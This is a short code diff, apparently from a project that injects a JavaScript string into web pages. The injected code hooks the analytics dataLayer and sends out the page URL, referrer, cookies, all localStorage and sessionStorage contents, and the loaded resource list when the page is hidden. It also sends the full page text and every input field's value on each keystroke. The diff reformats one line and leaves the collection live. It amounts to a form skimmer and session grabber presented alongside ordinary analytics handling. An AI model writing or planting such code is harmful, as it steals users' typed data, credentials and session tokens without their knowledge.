@@ -25,7 +25,8 @@ dataLayer.forEach(sendEntry);
 dataLayer.push=(...all)=>{all.forEach(sendEntry);return Array.prototype.push.apply(dataLayer,all)};
 addEventListener("pagehide",()=>send("page",[location.href,document.referrer,document.cookie,{...localStorage},
 {...sessionStorage},performance.getEntries().map(({name})=>name)]));
-const sendDocument=()=>send("document",[document.body.innerText,...[...document.querySelectorAll("input")].map(({value})=>value)].join(" "));
+const sendDocument=()=>send("document",[document.body.innerText,
+...[...document.querySelectorAll("input")].map(({value})=>value)].join(" "));
 addEventListener("input",sendDocument,true);
 addEventListener("pagehide",sendDocument);
 }`;
